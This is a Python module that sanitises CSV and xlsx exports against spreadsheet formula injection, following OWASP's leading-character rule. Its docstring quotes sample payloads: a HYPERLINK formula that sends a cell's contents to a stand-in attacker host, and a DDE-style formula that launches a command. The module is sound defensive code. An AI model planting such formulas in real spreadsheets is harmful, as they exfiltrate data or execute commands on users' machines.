"""Cells that a spreadsheet program cannot take for a formula: the one place every writer goes through.

A firm may be named ``=HYPERLINK("http://evil.example/?d="&B2,"点我")``, ``+cmd|' /C calc'!A0`` or
``@SUM(A1:A9)``. Written as they are, Excel runs them: XlsxWriter's ``write()`` turns a string that
starts with ``=`` into a formula, and Excel evaluates a CSV cell that starts with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return. OWASP's rule is applied here:

- **CSV**: a text cell starting with one of those characters is written with a leading apostrophe
  (``'=1+2``), which Excel shows as text; a number stays a number, and so does text that *is* a plain
  number (``-12.5``, ``+3``, ``-7%``), which no program takes for a formula.
- **xlsx**: every workbook is opened by ``workbook()``, with XlsxWriter's conversions off
  (``strings_to_formulas``, ``strings_to_urls``, ``strings_to_numbers``): a string is written as a
  string cell, which Excel never evaluates, and shown exactly as the firm wrote it.

``cell`` / ``row`` neutralise Python values, ``frame`` every text column of a Polars frame,
``writer`` wraps ``csv.writer``; ``is_dangerous`` is what the tests (and the reader, for text it stores)
check with.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

import polars as pl

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
FORMULA_PATTERN = r"^[=+\-@\t\r]"
_NUMBER = r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?%?$"
_NUMBER_RE = re.compile(_NUMBER)
# what XlsxWriter would otherwise do with a str passed to write()
XLSX_OPTIONS = {"strings_to_formulas": False, "strings_to_urls": False, "strings_to_numbers": False}


def is_dangerous(value: object) -> bool:
    """Text a spreadsheet program would evaluate (OWASP's leading characters, not a plain number)."""
    return isinstance(value, str) and value[:1] in FORMULA_START and not _NUMBER_RE.match(value)


def cell(value: Any) -> Any:
    """``value`` for a CSV cell: dangerous text gets a leading apostrophe, anything else is unchanged."""
    return "'" + value if is_dangerous(value) else value


def row(values: Iterable[Any]) -> list[Any]:
    return [cell(v) for v in values]


def frame(df: pl.DataFrame) -> pl.DataFrame:
    """Every text column of ``df`` with dangerous cells neutralised (other columns unchanged)."""
    text = [c for c, t in df.schema.items() if t in (pl.Utf8, pl.Categorical)]
    if not text:
        return df
    exprs = []
    for c in text:
        s = pl.col(c).cast(pl.Utf8)
        bad = s.str.contains(FORMULA_PATTERN) & ~s.str.contains(_NUMBER)
        exprs.append(pl.when(bad).then(pl.lit("'") + s).otherwise(s).alias(c))
    return df.with_columns(exprs)


class _Writer:
    def __init__(self, out: Any, **kwargs: Any) -> None:
        self._w = csv.writer(out, **kwargs)

    def writerow(self, values: Iterable[Any]) -> Any:
        return self._w.writerow(row(values))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for r in rows:
            self.writerow(r)


def writer(out: Any, **kwargs: Any) -> _Writer:
    """``csv.writer(out, **kwargs)`` whose rows are neutralised cell by cell."""
    return _Writer(out, **kwargs)


def workbook(target: Any, options: dict | None = None):
    """``xlsxwriter.Workbook(target, options)`` that writes every str as a string cell."""
    import xlsxwriter

    return xlsxwriter.Workbook(target, {**(options or {}), **XLSX_OPTIONS})
